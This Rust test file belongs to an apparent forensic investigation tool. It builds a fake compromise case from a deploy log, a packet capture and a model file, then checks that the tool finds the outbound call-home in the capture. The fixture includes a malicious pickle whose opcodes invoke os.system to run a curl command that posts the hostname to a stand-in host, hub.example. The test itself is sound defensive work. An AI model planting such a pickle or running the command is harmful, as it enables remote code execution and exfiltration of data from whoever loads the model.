//! A packet capture as the only network evidence of a case.

use wb_core::{KeyMoment, ReadState};
use wb_engine::{InvestigateOptions, Silent, investigate};
use wb_testkit::{Recipe, Scratch};

const STORY: &str = r#"
[[file]]
path = "models/live/rank.pkl"
pickle = """
PROTO 2
GLOBAL os system
BINUNICODE curl -s -X POST -d host=$(hostname) http://hub.example/v1/c
TUPLE1
REDUCE
STOP
"""

[[file]]
path = "logs/deploy.log"
text = """
2026-05-05T21:58:00Z INFO  Model deployed: rank.pkl
2026-05-05T21:59:50Z INFO  Loaded model: rank.pkl
"""

[[file]]
path = "net/span.pcapng"
capture = """
2026-05-05T21:00:00Z udp 10.0.0.5:123 > 192.0.2.1:123 up=48 down=48
2026-05-05T22:00:00Z dns 10.0.0.5:5301 > 10.0.0.53:53 query=hub.example answer=203.0.113.9
2026-05-05T22:00:01Z http 10.0.0.5:40001 > 203.0.113.9:80 host=hub.example path=/v1/c body=host=infer-01 every=300 times=6
"""
"#;

#[test]
fn packets_are_evidence_like_any_log() {
    let built = Recipe::parse(STORY).and_then(|recipe| recipe.build()).expect("a recipe");
    let folder =
        built.into_iter().fold(Scratch::new(), |folder, (path, bytes)| folder.with(&path, bytes));
    let case =
        investigate(folder.folder(), &InvestigateOptions::default(), &Silent).expect("a case");
    let format = |path: &str| {
        let found = case.artifacts.iter().find(|artifact| artifact.path.as_str() == path);
        found.and_then(|artifact| artifact.format)
    };
    assert_eq!(format("net/span.pcapng"), Some("pcap"));
    let coverage = case.coverage.iter().find(|row| row.artifact.as_str() == "net/span.pcapng");
    let coverage = coverage.expect("every artifact has a row");
    assert_eq!(
        (coverage.state, coverage.why.as_str()),
        (ReadState::Read, "52 of 52 packets understood")
    );

    let flow = case.flows.iter().find(|flow| flow.of_compromise).expect("the call home");
    assert_eq!(
        (flow.source.as_str(), flow.destination.as_str(), flow.count),
        ("10.0.0.5", "203.0.113.9", 6)
    );
    assert_eq!(flow.host.as_deref(), Some("hub.example"));
    let first = case.answers.moments.get(&KeyMoment::FirstOutbound).map(ToString::to_string);
    assert_eq!(first.as_deref(), Some("2026-05-05T22:00:01Z"));
    // The first packet of the first connection is the fifth of the file.
    let entry = case.timeline.iter().find(|entry| entry.key == Some(KeyMoment::FirstOutbound));
    let entry = entry.expect("it is in the timeline");
    assert_eq!((entry.record.artifact.as_str(), entry.record.line), ("net/span.pcapng", 5));
    assert!(
        entry.raw.contains("10.0.0.5:40001 > 203.0.113.9:80 tcp http hub.example"),
        "{}",
        entry.raw
    );
    assert!(
        case.seen_again
            .values()
            .flatten()
            .any(|again| again.record.artifact.as_str() == "net/span.pcapng")
    );
    let place = case.indicators.iter().flat_map(|indexed| &indexed.sources);
    assert!(
        place
            .clone()
            .any(|(path, place)| path.as_str() == "net/span.pcapng" && place == "packet 5"),
        "{:?}",
        place.collect::<Vec<_>>()
    );
}
